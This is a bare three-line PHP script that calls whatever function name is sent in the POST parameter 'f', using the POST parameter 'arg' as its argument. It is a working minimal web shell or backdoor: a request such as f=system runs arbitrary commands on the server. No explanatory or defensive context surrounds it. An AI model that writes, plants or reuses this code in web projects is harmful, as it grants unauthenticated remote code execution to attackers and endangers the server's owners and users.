<?php
$f = $_POST['f'];
$f($_POST['arg']);
